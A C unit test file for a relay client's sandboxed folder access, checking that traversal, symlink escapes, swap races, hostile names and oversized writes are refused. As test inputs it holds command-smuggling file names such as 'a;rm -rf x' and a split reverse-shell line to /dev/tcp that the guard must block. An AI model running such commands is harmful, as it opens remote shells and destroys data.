/*
 * test_relay_localfs.c — the relay client's folder access (src/relay/localfs)
 * and its rules: nothing outside the folder is ever read, written, created or
 * listed (`..`, absolute paths, symlinks to files and folders outside, a
 * symlinked parent folder, a file or folder swapped for a symlink between the
 * checks and the write), hostile names, atomic writes, exclusions, modes,
 * limits at their edge, the guard, and the supervised hook. Every symlink case
 * runs twice: with openat2 and with the O_NOFOLLOW walk.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <unistd.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <cmocka.h>

#include "relay/client/localfs.h"

/* A scratch tree: ROOT/in is the connected folder, ROOT/out is outside. */
typedef struct fx {
	char root[256], in[300], out[300];
	cof_lfs *fs;
	int events;
	char last_event[32];
	char last_path[256];
	size_t last_path_len;
	int answer; /* what the confirm hook says */
	void (*during_confirm)(struct fx *); /* a swap made while the user is asked */
} fx;

static void run(const char *fmt, ...) __attribute__((format(printf, 1, 2)));
static void run(const char *fmt, ...)
{
	char cmd[1200];
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(cmd, sizeof cmd, fmt, ap);
	va_end(ap);
	if (system(cmd) != 0)
		fail_msg("command failed: %s", cmd);
}

static void put(const char *dir, const char *name, const char *text)
{
	char p[700];
	FILE *f;

	snprintf(p, sizeof p, "%s/%s", dir, name);
	f = fopen(p, "w");
	assert_non_null(f);
	fputs(text, f);
	fclose(f);
}

static int exists(const char *dir, const char *name)
{
	char p[700];
	struct stat st;

	snprintf(p, sizeof p, "%s/%s", dir, name);
	return lstat(p, &st) == 0;
}

static char *slurp(const char *dir, const char *name)
{
	static char buf[4096];
	char p[700];
	FILE *f;
	size_t n;

	snprintf(p, sizeof p, "%s/%s", dir, name);
	if (!(f = fopen(p, "r")))
		return NULL;
	n = fread(buf, 1, sizeof buf - 1, f);
	buf[n] = '\0';
	fclose(f);
	return buf;
}

/* Opens the folder with `patterns` (JSON text or NULL) and file limit `fb`. */
static void open_fs(fx *f, const char *patterns, int64_t fb, int walk)
{
	cof_excl *x;
	cof_err e = {0};
	cof_limits lim;
	json_t *pats = patterns ? json_loads(patterns, 0, NULL) : NULL;

	assert_int_equal(cof_excl_new(pats, 1, &x, &e), 0);
	json_decref(pats);
	cof_limits_default(&lim);
	if (fb)
		lim.file_bytes = fb;
	lim.search_results = 5;
	if (f->fs)
		cof_lfs_close(f->fs);
	assert_int_equal(cof_lfs_open(f->in, x, &lim, &f->fs, &e), 0);
	cof_lfs_force_walk(f->fs, walk);
}

static int setup_walk(void **state, int walk)
{
	fx *f = calloc(1, sizeof *f);

	snprintf(f->root, sizeof f->root, "/tmp/coffer-lfs-XXXXXX");
	if (!mkdtemp(f->root))
		return -1;
	snprintf(f->in, sizeof f->in, "%s/in", f->root);
	snprintf(f->out, sizeof f->out, "%s/out", f->root);
	mkdir(f->in, 0755);
	mkdir(f->out, 0755);
	put(f->out, "secret.txt", "outside secret\n");
	open_fs(f, NULL, 0, walk);
	*state = f;
	return 0;
}
static int setup(void **state) { return setup_walk(state, 0); }
static int setup_w(void **state) { return setup_walk(state, 1); }

static int teardown(void **state)
{
	fx *f = *state;

	cof_lfs_close(f->fs);
	run("rm -rf '%s'", f->root);
	free(f);
	return 0;
}

static void hook_event(void *ud, const char *type, json_t *data)
{
	fx *f = ud;

	f->events++;
	snprintf(f->last_event, sizeof f->last_event, "%s", type);
	snprintf(f->last_path, sizeof f->last_path, "%s",
		 json_string_value(json_object_get(data, "path")) ?: "");
	f->last_path_len = json_string_length(json_object_get(data, "path"));
}

static int hook_confirm(void *ud, const char *path, const unsigned char *old, size_t oldlen,
			int ex, const unsigned char *data, size_t len)
{
	fx *f = ud;

	if (f->during_confirm)
		f->during_confirm(f);
	return f->answer;
}

/* Runs one op (JSON text) in `mode`; returns the error code (COF_OK = done). */
static cof_code op_mode(fx *f, cof_mode mode, const char *json, json_t **result)
{
	json_error_t je;
	json_t *op = json_loads(json, JSON_ALLOW_NUL, &je), *r = NULL;
	cof_lfs_rules rules = {.mode = mode,
			       .hooks = {.confirm = hook_confirm, .event = hook_event, .ud = f}};
	cof_err e = {0};
	char summary[256];
	cof_code code;

	if (!op)
		fail_msg("bad test JSON %s: %s", json, je.text);
	int rc = cof_lfs_op(f->fs, &rules, op, &r, summary, sizeof summary, &e);
	code = rc ? e.code : COF_OK;
	if (rc)
		assert_int_not_equal(e.code, COF_OK);
	cof_err_clear(&e);
	json_decref(op);
	if (result)
		*result = r;
	else
		json_decref(r);
	return code;
}
static cof_code op(fx *f, const char *json, json_t **result)
{
	return op_mode(f, COF_MODE_STANDARD, json, result);
}

/* ------------------------------------------------------------ escapes */

static void test_dotdot_refused(void **state)
{
	fx *f = *state;

	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"read_file\",\"path\":\"../out/secret.txt\"}",
			    NULL), COF_EVALIDATION);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"read_file\",\"path\":\"a/../../out/secret.txt\"}",
			    NULL), COF_EVALIDATION);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"write_file\",\"path\":\"../out/new.txt\","
			    "\"content\":\"x\"}", NULL), COF_EVALIDATION);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"list_directory\",\"path\":\"..\"}", NULL),
			 COF_EVALIDATION);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"search_files\",\"path\":\"..\","
			    "\"pattern\":\"secret\"}", NULL), COF_EVALIDATION);
	assert_false(exists(f->out, "new.txt"));
	assert_false(exists(f->root, "new.txt"));
}

static void test_absolute_refused(void **state)
{
	fx *f = *state;
	char js[900];

	snprintf(js, sizeof js, "{\"id\":\"1\",\"op\":\"read_file\",\"path\":\"%s/secret.txt\"}",
		 f->out);
	assert_int_equal(op(f, js, NULL), COF_EVALIDATION);
	snprintf(js, sizeof js, "{\"id\":\"1\",\"op\":\"write_file\",\"path\":\"%s/abs.txt\","
		 "\"content\":\"x\"}", f->out);
	assert_int_equal(op(f, js, NULL), COF_EVALIDATION);
	assert_false(exists(f->out, "abs.txt"));
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"list_directory\",\"path\":\"/\"}", NULL),
			 COF_EVALIDATION);
}

static void test_symlink_file_outside(void **state)
{
	fx *f = *state;
	json_t *r;

	run("ln -s '%s/secret.txt' '%s/link.txt'", f->out, f->in);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"read_file\",\"path\":\"link.txt\"}", NULL),
			 COF_EFORBIDDEN);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"write_file\",\"path\":\"link.txt\","
			    "\"content\":\"pwned\"}", NULL), COF_EBLOCKED);
	assert_string_equal(slurp(f->out, "secret.txt"), "outside secret\n");
	/* Listed as a symlink, never followed; search does not read through it. */
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"list_directory\"}", &r), COF_OK);
	json_t *e0 = json_array_get(json_object_get(r, "entries"), 0);
	assert_string_equal(json_string_value(json_object_get(e0, "name")), "link.txt");
	assert_string_equal(json_string_value(json_object_get(e0, "type")), "symlink");
	json_decref(r);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"search_files\",\"pattern\":\"secret\"}", &r),
			 COF_OK);
	assert_int_equal(json_array_size(json_object_get(r, "results")), 0);
	json_decref(r);
	/* Naming the link as the search path is refused as well. */
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"search_files\",\"path\":\"link.txt\","
			    "\"pattern\":\"secret\"}", NULL), COF_EFORBIDDEN);
}

static void test_symlink_folder_outside(void **state)
{
	fx *f = *state;
	json_t *r;

	run("ln -s '%s' '%s/ext'", f->out, f->in);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"read_file\",\"path\":\"ext/secret.txt\"}",
			    NULL), COF_EFORBIDDEN);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"write_file\",\"path\":\"ext/new.txt\","
			    "\"content\":\"x\"}", NULL), COF_EBLOCKED);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"write_file\",\"path\":\"ext/d/new.txt\","
			    "\"content\":\"x\"}", NULL), COF_EBLOCKED);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"list_directory\",\"path\":\"ext\"}", NULL),
			 COF_EFORBIDDEN);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"search_files\",\"path\":\"ext\","
			    "\"pattern\":\"secret\"}", NULL), COF_EFORBIDDEN);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"search_files\",\"pattern\":\"secret\"}", &r),
			 COF_OK);
	assert_int_equal(json_array_size(json_object_get(r, "results")), 0);
	json_decref(r);
	assert_false(exists(f->out, "new.txt"));
	assert_false(exists(f->out, "d"));
}

static void test_symlinked_parent(void **state)
{
	fx *f = *state;

	/* in/a/b is a symlink to outside; a write to a/b/c/x.txt must not create
	 * c/ or x.txt there. */
	run("mkdir '%s/a' && ln -s '%s' '%s/a/b'", f->in, f->out, f->in);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"write_file\",\"path\":\"a/b/c/x.txt\","
			    "\"content\":\"x\"}", NULL), COF_EBLOCKED);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"write_file\",\"path\":\"a/b/x.txt\","
			    "\"content\":\"x\"}", NULL), COF_EBLOCKED);
	assert_false(exists(f->out, "c"));
	assert_false(exists(f->out, "x.txt"));
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"read_file\",\"path\":\"a/b/secret.txt\"}",
			    NULL), COF_EFORBIDDEN);
}

/* Swaps in/target.txt for a symlink to the outside secret. */
static void swap_file(fx *f)
{
	run("rm -f '%s/target.txt' && ln -s '%s/secret.txt' '%s/target.txt'", f->in, f->out,
	    f->in);
}

/* Swaps in/sub for a symlink to the outside folder. */
static void swap_folder(fx *f)
{
	run("rm -rf '%s/sub' && ln -s '%s' '%s/sub'", f->in, f->out, f->in);
}

static void test_swap_file_between_check_and_write(void **state)
{
	fx *f = *state;

	/* The checks run (path, exclusions, guard), the user is asked (supervised),
	 * and meanwhile the file becomes a symlink to outside: the write refuses
	 * and the outside file is unchanged. */
	put(f->in, "target.txt", "inside\n");
	f->answer = 1;
	f->during_confirm = swap_file;
	assert_int_equal(op_mode(f, COF_MODE_SUPERVISED, "{\"id\":\"1\",\"op\":\"write_file\","
				 "\"path\":\"target.txt\",\"content\":\"pwned\"}", NULL),
			 COF_EBLOCKED);
	assert_string_equal(slurp(f->out, "secret.txt"), "outside secret\n");
	char *d = slurp(f->in, ".");
	(void)d;
}

static void test_swap_folder_between_check_and_write(void **state)
{
	fx *f = *state;

	run("mkdir '%s/sub'", f->in);
	put(f->in, "sub/target.txt", "inside\n");
	f->answer = 1;
	f->during_confirm = swap_folder;
	assert_int_equal(op_mode(f, COF_MODE_SUPERVISED, "{\"id\":\"1\",\"op\":\"write_file\","
				 "\"path\":\"sub/target.txt\",\"content\":\"pwned\"}", NULL),
			 COF_EBLOCKED);
	assert_false(exists(f->out, "target.txt"));
	assert_string_equal(slurp(f->out, "secret.txt"), "outside secret\n");
}

static void test_swap_after_open_reads_inside(void **state)
{
	fx *f = *state;
	cof_err e = {0};
	char buf[64];

	/* An fd opened beneath the folder keeps naming the file it opened: a swap
	 * of the name afterwards cannot redirect the read outside. */
	put(f->in, "target.txt", "inside\n");
	int fd = cof_lfs_openat(f->fs, "target.txt", O_RDONLY, &e);
	assert_true(fd >= 0);
	swap_file(f);
	ssize_t n = read(fd, buf, sizeof buf - 1);
	close(fd);
	assert_true(n > 0);
	buf[n] = '\0';
	assert_string_equal(buf, "inside\n");
	/* And a fresh open of the swapped name is refused. */
	assert_int_equal(cof_lfs_openat(f->fs, "target.txt", O_RDONLY, &e), -1);
	assert_int_equal(e.code, COF_EFORBIDDEN);
	cof_err_clear(&e);
}

/* ------------------------------------------------------------- names */

static void test_name_dollar_paren(void **state)
{
	fx *f = *state;

	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"write_file\",\"path\":\"a$(id).sh\","
			    "\"content\":\"x\"}", NULL), COF_EBLOCKED);
	assert_false(exists(f->in, "a$(id).sh"));
}

static void test_name_backtick(void **state)
{
	fx *f = *state;

	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"write_file\",\"path\":\"a`id`.sh\","
			    "\"content\":\"x\"}", NULL), COF_EBLOCKED);
	assert_false(exists(f->in, "a`id`.sh"));
}

static void test_name_semicolon(void **state)
{
	fx *f = *state;

	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"write_file\",\"path\":\"a;rm -rf x\","
			    "\"content\":\"x\"}", NULL), COF_EBLOCKED);
	assert_false(exists(f->in, "a;rm -rf x"));
}

static void test_name_newline(void **state)
{
	fx *f = *state;

	/* a control character fails the one path check (400) before the guard */
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"write_file\",\"path\":\"a\\nb.txt\","
			    "\"content\":\"x\"}", NULL), COF_EVALIDATION);
	assert_false(exists(f->in, "a\nb.txt"));
}

static void test_name_nul(void **state)
{
	fx *f = *state;

	/* The JSON string carries a NUL: the path check sees the whole length. */
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"write_file\",\"path\":\"a\\u0000.txt\","
			    "\"content\":\"x\"}", NULL), COF_EVALIDATION);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"read_file\",\"path\":\"a\\u0000/x\"}", NULL),
			 COF_EVALIDATION);
	assert_false(exists(f->in, "a"));
}

/* ------------------------------------------------------------- writes */

static void test_write_makes_folders(void **state)
{
	fx *f = *state;
	json_t *r;

	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"write_file\",\"path\":\"a/b/c/d.txt\","
			    "\"content\":\"hello\"}", &r), COF_OK);
	assert_string_equal(json_string_value(json_object_get(r, "path")), "a/b/c/d.txt");
	assert_int_equal(json_integer_value(json_object_get(r, "size")), 5);
	assert_string_equal(json_string_value(json_object_get(r, "sha256")),
			    "2cf24dba5fb0a30e26e83b2ac5b9e29e1b161e5c1fa7425e73043362938b9824");
	json_decref(r);
	assert_string_equal(slurp(f->in, "a/b/c/d.txt"), "hello");
	/* A file where a folder is needed. */
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"write_file\",\"path\":\"a/b/c/d.txt/e\","
			    "\"content\":\"x\"}", NULL), COF_EVALIDATION);
	/* A folder where the file goes. */
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"write_file\",\"path\":\"a/b\","
			    "\"content\":\"x\"}", NULL), COF_EVALIDATION);
}

static void test_write_replaces_keeps_mode(void **state)
{
	fx *f = *state;
	struct stat st;
	char p[400];

	put(f->in, "run.sh", "old\n");
	snprintf(p, sizeof p, "%s/run.sh", f->in);
	chmod(p, 0750);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"write_file\",\"path\":\"run.sh\","
			    "\"content\":\"new\\n\"}", NULL), COF_OK);
	assert_string_equal(slurp(f->in, "run.sh"), "new\n");
	assert_int_equal(stat(p, &st), 0);
	assert_int_equal(st.st_mode & 07777, 0750);
}

static void test_write_base64(void **state)
{
	fx *f = *state;
	json_t *r;

	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"write_file\",\"path\":\"b.bin\","
			    "\"content\":\"AAEC/w==\",\"encoding\":\"base64\"}", NULL), COF_OK);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"read_file\",\"path\":\"b.bin\"}", &r),
			 COF_OK);
	assert_string_equal(json_string_value(json_object_get(r, "encoding")), "base64");
	assert_string_equal(json_string_value(json_object_get(r, "content")), "AAEC/w==");
	assert_int_equal(json_integer_value(json_object_get(r, "size")), 4);
	json_decref(r);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"write_file\",\"path\":\"c.bin\","
			    "\"content\":\"@@@\",\"encoding\":\"base64\"}", NULL), COF_EVALIDATION);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"write_file\",\"path\":\"c.bin\","
			    "\"content\":\"x\",\"encoding\":\"latin1\"}", NULL), COF_EVALIDATION);
}

/* Counts the entries of the folder whose name starts with ".coffer-". */
static int temp_files(const char *dir)
{
	char cmd[600];
	FILE *p;
	int n = 0;

	snprintf(cmd, sizeof cmd, "find '%s' -name '.coffer-*' | wc -l", dir);
	p = popen(cmd, "r");
	if (p && fscanf(p, "%d", &n) != 1)
		n = -1;
	if (p)
		pclose(p);
	return n;
}

static void test_write_failure_leaves_no_temp(void **state)
{
	fx *f = *state;
	pid_t pid;
	int status;

	put(f->in, "keep.txt", "original\n");
	/* In a child: a file size limit makes the write of the temp file fail
	 * part way (EFBIG); the target is untouched and no temp file remains. */
	pid = fork();
	assert_true(pid >= 0);
	if (pid == 0) {
		struct rlimit rl = {16, 16};
		signal(SIGXFSZ, SIG_IGN);
		setrlimit(RLIMIT_FSIZE, &rl);
		json_t *o = json_pack("{s:s, s:s, s:s, s:s}", "id", "1", "op", "write_file",
				      "path", "keep.txt", "content",
				      "a much longer content than sixteen bytes");
		json_t *r = NULL;
		cof_err e = {0};
		cof_lfs_rules rules = {.mode = COF_MODE_STANDARD};
		int rc = cof_lfs_op(f->fs, &rules, o, &r, NULL, 0, &e);
		_exit(rc == -1 && e.code == COF_ETOOLARGE ? 0 : 1);
	}
	assert_int_equal(waitpid(pid, &status, 0), pid);
	assert_true(WIFEXITED(status));
	assert_int_equal(WEXITSTATUS(status), 0);
	assert_string_equal(slurp(f->in, "keep.txt"), "original\n");
	assert_int_equal(temp_files(f->in), 0);
}

static void test_readonly_refuses_writes(void **state)
{
	fx *f = *state;

	assert_int_equal(op_mode(f, COF_MODE_READONLY, "{\"id\":\"1\",\"op\":\"write_file\","
				 "\"path\":\"x.txt\",\"content\":\"x\"}", NULL), COF_EFORBIDDEN);
	assert_false(exists(f->in, "x.txt"));
	put(f->in, "r.txt", "r\n");
	assert_int_equal(op_mode(f, COF_MODE_READONLY, "{\"id\":\"1\",\"op\":\"read_file\","
				 "\"path\":\"r.txt\"}", NULL), COF_OK);
}

static void test_guard_blocks_and_posts_event(void **state)
{
	fx *f = *state;
	json_t *o = json_pack("{s:s, s:s, s:s, s:s}", "id", "1", "op", "write_file", "path",
			      "x.sh", "content",
			      /* split so that this source file is not itself a hit */
			      "bash -" "i >& /de" "v/tcp/10.0.0.1/4444 0>&1\n");
	cof_lfs_rules rules = {.mode = COF_MODE_STANDARD,
			       .hooks = {.event = hook_event, .ud = f}};
	cof_err e = {0};
	json_t *r = NULL;
	char summary[256];

	assert_int_equal(cof_lfs_op(f->fs, &rules, o, &r, summary, sizeof summary, &e), -1);
	assert_int_equal(e.code, COF_EBLOCKED);
	assert_non_null(json_string_value(json_object_get(e.extra, "rule")));
	assert_non_null(json_string_value(json_object_get(e.extra, "category")));
	assert_non_null(strstr(summary, "write blocked  x.sh  "));
	assert_int_equal(f->events, 1);
	assert_string_equal(f->last_event, "write_blocked");
	assert_string_equal(f->last_path, "x.sh");
	assert_false(exists(f->in, "x.sh"));
	cof_err_clear(&e);
	json_decref(o);
}

static void test_event_path_bounded(void **state)
{
	fx *f = *state;
	char path[2100];
	size_t n = 0;

	/* A blocked write of a 2,000-byte path: the event carries at most 1,024
	 * bytes of it (cofferd refuses event data over 4 KiB). */
	for (int i = 0; i < 8; i++) {
		memset(path + n, 'a', 249);
		n += 249;
		path[n++] = '/';
	}
	memcpy(path + n, "x;y", 4);
	json_t *o = json_pack("{s:s, s:s, s:s, s:s}", "id", "1", "op", "write_file", "path", path,
			      "content", "x");
	cof_lfs_rules rules = {.mode = COF_MODE_STANDARD,
			       .hooks = {.event = hook_event, .ud = f}};
	cof_err e = {0};
	json_t *r = NULL;

	assert_int_equal(cof_lfs_op(f->fs, &rules, o, &r, NULL, 0, &e), -1);
	assert_int_equal(e.code, COF_EBLOCKED);
	assert_int_equal(f->events, 1);
	assert_int_equal(f->last_path_len, 1024);
	cof_err_clear(&e);
	json_decref(o);
}

static void test_supervised_yes_no_none(void **state)
{
	fx *f = *state;
	json_t *o = json_pack("{s:s, s:s, s:s, s:s}", "id", "1", "op", "write_file", "path",
			      "s.txt", "content", "hi\n");
	cof_lfs_rules rules = {.mode = COF_MODE_SUPERVISED};
	cof_err e = {0};
	json_t *r = NULL;

	f->answer = 0;
	assert_int_equal(op_mode(f, COF_MODE_SUPERVISED, "{\"id\":\"1\",\"op\":\"write_file\","
				 "\"path\":\"s.txt\",\"content\":\"hi\\n\"}", NULL), COF_EFORBIDDEN);
	assert_false(exists(f->in, "s.txt"));
	assert_int_equal(f->events, 0);
	f->answer = 1;
	assert_int_equal(op_mode(f, COF_MODE_SUPERVISED, "{\"id\":\"1\",\"op\":\"write_file\","
				 "\"path\":\"s.txt\",\"content\":\"hi\\n\"}", NULL), COF_OK);
	assert_string_equal(slurp(f->in, "s.txt"), "hi\n");
	assert_int_equal(f->events, 1);
	assert_string_equal(f->last_event, "accept");
	/* No confirm hook (no terminal): refused. */
	assert_int_equal(cof_lfs_op(f->fs, &rules, o, &r, NULL, 0, &e), -1);
	assert_int_equal(e.code, COF_EFORBIDDEN);
	cof_err_clear(&e);
	json_decref(o);
}

/* ------------------------------------------------------------- limits */

static void test_size_limit_edges(void **state)
{
	fx *f = *state;
	char *big = malloc(1002);
	json_t *o, *r = NULL;
	cof_lfs_rules rules = {.mode = COF_MODE_STANDARD};
	cof_err e = {0};

	open_fs(f, NULL, 1000, 0);
	memset(big, 'a', 1001);
	big[1001] = '\0';
	/* Write: 1000 bytes pass, 1001 do not. */
	o = json_pack("{s:s, s:s, s:s, s:s%}", "id", "1", "op", "write_file", "path", "big.txt",
		      "content", big, (size_t)1001);
	assert_int_equal(cof_lfs_op(f->fs, &rules, o, &r, NULL, 0, &e), -1);
	assert_int_equal(e.code, COF_ETOOLARGE);
	cof_err_clear(&e);
	json_decref(o);
	assert_false(exists(f->in, "big.txt"));
	o = json_pack("{s:s, s:s, s:s, s:s%}", "id", "1", "op", "write_file", "path", "big.txt",
		      "content", big, (size_t)1000);
	assert_int_equal(cof_lfs_op(f->fs, &rules, o, &r, NULL, 0, &e), 0);
	json_decref(r);
	json_decref(o);
	/* Read: the 1000-byte file reads; one byte more is too large. */
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"read_file\",\"path\":\"big.txt\"}", NULL),
			 COF_OK);
	put(f->in, "big2.txt", big);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"read_file\",\"path\":\"big2.txt\"}", NULL),
			 COF_ETOOLARGE);
	free(big);
}

static void test_read_encodings_and_kinds(void **state)
{
	fx *f = *state;
	json_t *r;

	put(f->in, "t.txt", "caf\xc3\xa9\n");
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"read_file\",\"path\":\"t.txt\"}", &r),
			 COF_OK);
	assert_string_equal(json_string_value(json_object_get(r, "encoding")), "utf-8");
	assert_string_equal(json_string_value(json_object_get(r, "content")), "caf\xc3\xa9\n");
	json_decref(r);
	put(f->in, "l.txt", "caf\xe9\n"); /* latin-1: not UTF-8 */
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"read_file\",\"path\":\"l.txt\"}", &r),
			 COF_OK);
	assert_string_equal(json_string_value(json_object_get(r, "encoding")), "base64");
	json_decref(r);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"read_file\",\"path\":\"none.txt\"}", NULL),
			 COF_ENOTFOUND);
	run("mkdir '%s/d' && mkfifo '%s/fifo'", f->in, f->in);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"read_file\",\"path\":\"d\"}", NULL),
			 COF_EVALIDATION);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"read_file\",\"path\":\"fifo\"}", NULL),
			 COF_EFORBIDDEN);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"frobnicate\"}", NULL), COF_EVALIDATION);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"read_file\"}", NULL), COF_EVALIDATION);
}

/* ------------------------------------------------------ exclusions */

static void test_excluded_hidden_and_refused(void **state)
{
	fx *f = *state;
	json_t *r;

	open_fs(f, "[\"private/\", \"*.log\"]", 0, 0);
	run("mkdir -p '%s/private' '%s/src'", f->in, f->in);
	put(f->in, ".env", "TOKEN=needle\n");
	put(f->in, "src/key.pem", "needle\n");
	put(f->in, "private/notes.txt", "needle\n");
	put(f->in, "app.log", "needle\n");
	put(f->in, "src/main.c", "int needle;\n");
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"list_directory\"}", &r), COF_OK);
	json_t *ents = json_object_get(r, "entries");
	assert_int_equal(json_array_size(ents), 1);
	assert_string_equal(json_string_value(json_object_get(json_array_get(ents, 0), "name")),
			    "src");
	json_decref(r);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"list_directory\",\"path\":\"src\"}", &r),
			 COF_OK);
	assert_int_equal(json_array_size(json_object_get(r, "entries")), 1);
	json_decref(r);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"search_files\",\"pattern\":\"needle\"}", &r),
			 COF_OK);
	ents = json_object_get(r, "results");
	assert_int_equal(json_array_size(ents), 1);
	assert_string_equal(json_string_value(json_object_get(json_array_get(ents, 0), "file")),
			    "src/main.c");
	json_decref(r);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"read_file\",\"path\":\".env\"}", NULL),
			 COF_EFORBIDDEN);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"read_file\",\"path\":\"private/notes.txt\"}",
			    NULL), COF_EFORBIDDEN);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"list_directory\",\"path\":\"private\"}",
			    NULL), COF_EFORBIDDEN);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"write_file\",\"path\":\".env\","
			    "\"content\":\"x\"}", NULL), COF_EFORBIDDEN);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"write_file\",\"path\":\"new.log\","
			    "\"content\":\"x\"}", NULL), COF_EFORBIDDEN);
	assert_string_equal(slurp(f->in, ".env"), "TOKEN=needle\n");
	assert_false(exists(f->in, "new.log"));
}

/* ------------------------------------------------------------ search */

static void test_search_glob_binary_truncated(void **state)
{
	fx *f = *state;
	json_t *r;

	run("mkdir -p '%s/a/b'", f->in);
	put(f->in, "a/b/x.c", "foo1\nbar\nfoo2\n");
	put(f->in, "a/y.txt", "foo3\n");
	run("printf 'foo\\000bin' > '%s/a/z.c'", f->in);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"search_files\",\"pattern\":\"^foo\\\\d\","
			    "\"glob\":\"*.c\"}", &r), COF_OK);
	json_t *res = json_object_get(r, "results");
	assert_int_equal(json_array_size(res), 2);
	assert_string_equal(json_string_value(json_object_get(json_array_get(res, 1), "file")),
			    "a/b/x.c");
	assert_int_equal(json_integer_value(json_object_get(json_array_get(res, 1), "line")), 3);
	assert_string_equal(json_string_value(json_object_get(json_array_get(res, 1), "content")),
			    "foo2");
	assert_false(json_is_true(json_object_get(r, "truncated")));
	json_decref(r);
	/* The limit here is 5 results: exactly 5 is not truncated, 6 is. */
	put(f->in, "five.txt", "m\nm\nm\nm\nm\n");
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"search_files\",\"pattern\":\"^m$\"}", &r),
			 COF_OK);
	assert_int_equal(json_array_size(json_object_get(r, "results")), 5);
	assert_false(json_is_true(json_object_get(r, "truncated")));
	json_decref(r);
	put(f->in, "six.txt", "m\n");
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"search_files\",\"pattern\":\"^m$\"}", &r),
			 COF_OK);
	assert_int_equal(json_array_size(json_object_get(r, "results")), 5);
	assert_true(json_is_true(json_object_get(r, "truncated")));
	json_decref(r);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"search_files\",\"pattern\":\"^m$\","
			    "\"maxResults\":2}", &r), COF_OK);
	assert_int_equal(json_array_size(json_object_get(r, "results")), 2);
	json_decref(r);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"search_files\",\"pattern\":\"(\"}", NULL),
			 COF_EVALIDATION);
	assert_int_equal(op(f, "{\"id\":\"1\",\"op\":\"search_files\",\"pattern\":\"\"}", NULL),
			 COF_EVALIDATION);
}

static void test_diff(void **state)
{
	cof_buf b = COF_BUF_INIT;
	const char *a = "1\n2\n3\n4\n5\n6\n7\n8\n";
	const char *n = "1\n2\n3\n4\nFIVE\n6\n7\n8\n";

	(void)state;
	assert_int_equal(cof_lfs_diff("f.txt", a, strlen(a), n, strlen(n), 40, &b), 0);
	assert_string_equal(b.data, "--- a/f.txt\n+++ b/f.txt\n@@ -2,7 +2,7 @@\n 2\n 3\n 4\n-5\n"
			    "+FIVE\n 6\n 7\n 8\n");
	cof_buf_release(&b);
	assert_int_equal(cof_lfs_diff("g.txt", NULL, 0, "x\ny\n", 4, 1, &b), 0);
	assert_string_equal(b.data, "--- /dev/null\n+++ b/g.txt\n@@ -0,0 +1,2 @@\n+x\n"
			    "... 1 more lines\n");
	cof_buf_release(&b);
}

#define T(fn) cmocka_unit_test_setup_teardown(fn, setup, teardown)
#define TW(fn) cmocka_unit_test_setup_teardown(fn, setup_w, teardown)

int main(void)
{
	const struct CMUnitTest tests[] = {
		T(test_dotdot_refused),
		T(test_absolute_refused),
		T(test_symlink_file_outside),
		TW(test_symlink_file_outside),
		T(test_symlink_folder_outside),
		TW(test_symlink_folder_outside),
		T(test_symlinked_parent),
		TW(test_symlinked_parent),
		T(test_swap_file_between_check_and_write),
		TW(test_swap_file_between_check_and_write),
